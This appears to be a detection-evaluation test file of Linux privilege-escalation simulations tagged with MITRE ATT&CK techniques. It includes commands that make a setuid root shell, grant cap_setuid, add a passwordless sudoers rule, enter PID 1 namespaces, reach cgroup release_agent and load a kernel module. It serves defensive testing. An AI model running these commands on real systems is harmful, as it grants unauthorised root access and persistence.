# Privilege escalation (TA0004).

#@ id=priv-setuid-search kind=attack tactic=privilege_escalation technique=T1548.001 signal=exec title=Search for setuid binaries
find / -xdev -perm -4000 -type f 2>/dev/null | head -20

#@ id=priv-setuid-bit kind=attack tactic=privilege_escalation technique=T1548.001 signal=file title=setuid bit set on a copied shell
cp /bin/bash ./rootbash; chmod u+s ./rootbash; ls -l rootbash

#@ id=priv-capability kind=attack tactic=privilege_escalation technique=T1548 signal=exec title=cap_setuid granted to a copied interpreter
need setcap
cp /usr/bin/python3.11 ./py; setcap cap_setuid+ep ./py

#@ id=priv-sudoers kind=attack tactic=privilege_escalation technique=T1548.003 signal=file title=sudoers drop-in granting NOPASSWD
restore_file /etc/sudoers.d/mamori-eval
mkdir -p /etc/sudoers.d; echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/mamori-eval

#@ id=priv-enum-script kind=attack tactic=privilege_escalation technique=T1068 signal=exec title=Privilege-escalation enumeration (linpeas-style checks)
cat /etc/sudoers 2>/dev/null >/dev/null; find / -xdev -writable -type d -maxdepth 2 2>/dev/null | head; cat /proc/sys/kernel/unprivileged_userns_clone 2>/dev/null; getcap -r / 2>/dev/null | head; uname -r

#@ id=priv-nsenter-pid1 kind=attack tactic=privilege_escalation technique=T1611 signal=exec title=nsenter into PID 1's namespaces
# Exits 1 in this lab VM: its PID 1 is the VM's supervisor, whose /proc/1/ns/* links the kernel
# refuses (EACCES) even to root with every capability, while other tasks' links open; nsenter
# fails at that open, before any setns. The attempt is still detected (command line).
nsenter -t 1 -m -u -i -n -p -- /bin/true

#@ id=priv-unshare-root kind=attack tactic=privilege_escalation technique=T1611 signal=exec title=User namespace root via unshare -r
setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r id 2>/dev/null || true

#@ id=priv-mount-blockdev kind=attack tactic=privilege_escalation technique=T1611 signal=mount title=Block device mounted to reach the host file system (loop image)
dd if=/dev/zero of=disk.img bs=1M count=8 status=none; busybox mke2fs -q disk.img >/dev/null 2>&1 || mkfs.ext4 -q disk.img
mkdir mnt; mount -o loop disk.img mnt && at_exit "umount $PWD/mnt"; ls mnt

#@ id=priv-cgroup-release-agent kind=attack tactic=privilege_escalation technique=T1611 signal=mount title=cgroup v1 mounted to reach release_agent
mkdir cg; mount -t cgroup -o rdma cgroup cg 2>/dev/null && { at_exit "umount $PWD/cg"; ls cg/release_agent; }; true

#@ id=priv-kernel-module kind=attack tactic=privilege_escalation technique=T1547.006 signal=module title=Kernel module load attempted from /tmp (invalid module)
f=/tmp/.evalmod$$.ko; at_exit "rm -f $f"; head -c 4096 /dev/zero > $f; busybox insmod $f 2>/dev/null; true
